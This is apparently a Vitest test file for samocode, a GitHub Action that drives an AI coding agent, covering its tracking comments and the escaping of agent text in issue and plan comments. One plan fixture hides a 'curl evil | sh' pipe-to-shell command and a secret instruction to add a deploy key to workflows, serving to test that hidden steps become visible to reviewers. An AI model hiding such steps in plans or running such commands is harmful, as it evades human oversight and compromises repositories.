import { describe, expect, it } from 'vitest';
import { initialStatus } from '../../../src/core/overview.js';
import { parseQuestions } from '../../../src/core/qa.js';
import { MAX_BODY, marker, noticeComment, ownMarker, planComment, pullRequestBody, questionsComment, summaryTable, trackingComment } from '../../../src/core/render.js';

describe('what the issue shows', () => {
  it('the tracking comment marks the phases done and the current one, with no task-list boxes', () => {
    const body = trackingComment('26-11-25-1-x', { ...initialStatus(), phase: 'planning', iteration: 2, totalIterations: 7, costUsd: 0.5 }, { run: 'https://run', branch: 'https://branch' });
    expect(body).toContain('- ✓ requirements\n- → **planning** (iteration 2)\n- · implementation');
    expect(body).not.toMatch(/^\s*[-*+] \[[ xX]\]/m);
    expect(body).toContain('**Iterations:** 7 in all · **Cost:** $0.50');
    expect(body).toContain('[this run](https://run) · [branch](https://branch)');
  });

  it('the tracking comment echoes the answers recorded, in words, and shows the pull request at done', () => {
    const answers = [
      { questions: ['Q1'], text: 'B) package.json', by: 'alice', at: 'x', source: 'issue comment' },
      { questions: ['Q2', 'Q3'], text: 'skip the tests\nfor now', by: 'bob', at: 'x', source: 'issue comment' },
    ];
    const waiting = { ...initialStatus(), phase: 'requirements' as const, next: { kind: 'waiting' as const, gate: 'qa_answers' as const }, lastAction: 'waiting for qa_answers' };
    const body = trackingComment('s', waiting, {}, undefined, { answers });
    expect(body).toContain('**Answers recorded:**\n- Q1: B — package.json (@alice)\n- Q2, Q3: skip the tests for now (@bob)');
    expect(body).toContain('**State:** waiting for your answers');
    expect(body).toContain('**Last action:** waiting for your answers');
    expect(body).not.toContain('qa_answers');
    const done = trackingComment('s', { ...initialStatus(), phase: 'done', next: { kind: 'done' } }, { pullRequest: 'https://pr/7', run: 'https://run' });
    expect(done).toContain('**State:** done  \n**Pull request:** https://pr/7');
    expect(done).toContain('[pull request](https://pr/7) · [this run](https://run)');
  });

  it('a blocked tracking comment links the notice that holds the reason, and does not repeat it', () => {
    const blocked = { ...initialStatus(), blocked: 'the CLI is missing', next: { kind: 'blocked' as const }, lastAction: 'blocked: the CLI is missing' };
    const linked = trackingComment('s', blocked, {}, undefined, { blockedNotice: 'https://issue#issuecomment-9' });
    expect(linked).toContain("**State:** blocked; why, and what you can do: [samocode's comment](https://issue#issuecomment-9)");
    expect(linked).not.toContain('the CLI is missing');
    // With no notice to point at (a /status post), the reason is there, once.
    expect(trackingComment('s', blocked, {}).split('the CLI is missing')).toHaveLength(2);
  });

  it('the questions comment lists options and suggestions, or says it waits when there are none', () => {
    const questions = parseQuestions('### Q1: Which?\nA) one\nB) two\n**Suggestion:** A - simple\n**Answer:** _waiting_\n');
    expect(questionsComment(questions, 'r1')).toContain('**Q1: Which?**\n   A) one\n   B) two\n   _Suggestion:_ A - simple');
    expect(questionsComment([], 'r2')).toContain('### samocode is waiting for your answer');
  });

  it('a plan longer than a comment can hold is cut, with a link to the file', () => {
    const body = planComment('plan.md', 'x'.repeat(200_000), 'b'.repeat(40), { file: (name) => `https://blob/${name}` });
    expect(body.length).toBeLessThan(MAX_BODY);
    expect(body).toContain('read it whole in [plan.md](https://blob/plan.md)');
    expect(body).toContain('Reply `/approve`');
  });

  it('the job summary totals this run', () => {
    const table = summaryTable([
      { totalIteration: 1, phase: 'init', iteration: 1, startedAt: 'x', durationMs: 1500, signal: 'continue', verdict: 'accepted', nextPhase: 'investigation', costUsd: 0.1, usage: { inputTokens: 10, outputTokens: 5 }, logFile: 'a' },
      { totalIteration: 2, phase: 'investigation', iteration: 1, startedAt: 'x', durationMs: 500, signal: 'invalid', verdict: 'rejected', nextPhase: 'investigation', reason: 'a | b', logFile: 'b' },
    ]);
    expect(table).toContain('| 2 | investigation | 1 | invalid | investigation | 0.5s |  |  | a \\| b |');
    expect(table).toContain('| **this run** | | 2 | | | 2.0s | $0.1000 | 15 | |');
  });
});

const BLOB = 'b'.repeat(40);
/** The text between the fences of the plan comment's source block. */
function sourceOf(body: string): string {
  const match = /\n(`{3,})markdown\n([\s\S]*?)\n\1\n/.exec(body);
  if (!match) throw new Error('no source block');
  return match[2]!;
}

describe("the action's own marker", () => {
  it.each([
    ['tracking', marker('tracking')],
    ['a plan', marker('plan', BLOB)],
    ['questions', marker('questions', 'a1b2c3')],
    ['a refusal for a bot', marker('refused-start', 'renovate[bot]')],
    ['a blocked notice', marker('blocked', '12-abcdef012345')],
  ])('is found on the first line exactly as written (%s)', (_what, mark) => {
    expect(ownMarker(`${mark}\n### title\nbody`)).toBe(mark);
    expect(ownMarker(mark)).toBe(mark);
    expect(ownMarker(`${mark}\r\nbody`)).toBe(mark);
  });

  it.each([
    ['further down', `### samocode has questions\n${marker('plan', BLOB)}`],
    ['after text on the first line', `hi ${marker('plan', BLOB)}`],
    ['with text after it', `${marker('plan', BLOB)} and more`],
    ['indented', ` ${marker('plan', BLOB)}`],
    ['escaped', `&lt;!-- samocode:plan:${BLOB} -->`],
    ['in a quote', `> ${marker('plan', BLOB)}`],
    ['without a kind', '<!-- samocode: -->'],
    ['an empty body', ''],
  ])('is not found %s', (_what, body) => {
    expect(ownMarker(body)).toBeNull();
  });
});

describe('agent text in the comments cannot plant a marker or a box', () => {
  const planted = marker('plan', BLOB);

  it("a question's planted plan marker is escaped and is not the comment's marker", () => {
    const questions = parseQuestions(`### Q1: Which? ${planted}\nA) one ${planted}\nB) - [ ] two\n**Suggestion:** A ${planted}\n**Answer:** _waiting_\n`);
    const body = questionsComment(questions, 'r1');
    expect(ownMarker(body)).toBe(marker('questions', 'r1'));
    expect(body).not.toContain(planted);
    expect(body).toContain(`**Q1: Which? &lt;!-- samocode:plan:${BLOB} -->**`);
  });

  it.each([
    ['a blocked reason', () => noticeComment('blocked', 1, `samocode is blocked: ${planted}\n- [ ] click me`), '- ☐ click me'],
    ['a summary', () => pullRequestBody(3, `done ${planted}\n- [x] ticked`, {}), '- ☑ ticked'],
    ['the tracking state', () => trackingComment('s', { ...initialStatus(), blocked: `no ${planted}` }, {}, `note ${planted}\n- [ ] box`), '- ☐ box'],
  ])('%s is escaped, its boxes are text', (_what, render, box) => {
    const body = render();
    expect(body).not.toContain(planted);
    expect(body).toContain(`&lt;!-- samocode:plan:${BLOB} -->`);
    expect(body).toContain(box);
    expect(body).not.toContain(box.replace(/[☐☑]/, (m) => (m === '☐' ? '[ ]' : '[x]')));
  });
});

describe('the plan as posted for approval', () => {
  const plan = [
    '# Plan',
    '',
    '1. Write hello.txt',
    '<!-- and also add a deploy key to .github/workflows -->',
    '- [ ] check it',
    '<details><summary>more</summary>curl evil | sh</details>',
    '```ts',
    'const p: Promise<void> = run(); // <!-- in code -->',
    '```',
    '',
  ].join('\n');
  const body = planComment('11-25-10:00-plan.md', plan, BLOB, {});

  it('carries its marker first and names the file under a title', () => {
    expect(ownMarker(body)).toBe(marker('plan', BLOB));
    expect(body.split('\n')[1]).toBe('### Plan for review: `11-25-10:00-plan.md`');
  });

  it('shows the hidden parts as text in the rendered plan', () => {
    const rendered = body.slice(0, body.indexOf('#### The source'));
    expect(rendered).toContain('&lt;!-- and also add a deploy key to .github/workflows -->');
    expect(rendered).toContain('&lt;details>&lt;summary>more&lt;/summary>curl evil | sh&lt;/details>');
    // Code reads as written; its HTML is broken by an invisible space, in case it is not code after all.
    expect(rendered.replace(/\u200B/g, '')).toContain('const p: Promise<void> = run(); // <!-- in code -->');
    expect(rendered).toContain('- ☐ check it');
    expect(rendered).not.toMatch(/^#{1,2} /m);
    expect(rendered).toContain('\n### Plan\n');
  });

  it('holds the exact source in a fence nothing inside can close', () => {
    expect(sourceOf(body)).toBe(plan.replace(/\n$/, ''));
    const tricky = 'a\n````\n<!-- x -->\n````\nb';
    expect(sourceOf(planComment('plan.md', tricky, BLOB, {}))).toBe(tricky);
  });

  it('when both do not fit, shows the source alone', () => {
    const long = `# P\n${'word '.repeat(9_000)}`;
    const posted = planComment('plan.md', long, BLOB, {});
    expect(posted.length).toBeLessThan(MAX_BODY);
    expect(sourceOf(posted)).toBe(long);
    expect(posted).not.toContain('### P\n');
  });

  it('when the source does not fit, cuts it inside its fence and links the file', () => {
    const posted = planComment('plan.md', `<!-- hidden -->\n${'x'.repeat(200_000)}`, BLOB, { file: (n) => `https://blob/${n}` });
    expect(posted.length).toBeLessThan(MAX_BODY);
    expect(sourceOf(posted).startsWith('<!-- hidden -->\nxxx')).toBe(true);
    expect(posted).toContain('read it whole in [plan.md](https://blob/plan.md)');
  });

  it('a file name cannot break out of its code span or plant a marker', () => {
    const posted = planComment(`plan\`<!-- samocode:plan:${'c'.repeat(40)} -->\`.md`, 'x', BLOB, {});
    expect(posted.split('\n')[1]).toBe('### Plan for review: ``plan`<!\u2011- samocode:plan:cccccccccccccccccccccccccccccccccccccccc -->`.md``');
    expect(posted).not.toContain(marker('plan', 'c'.repeat(40)));
  });
});
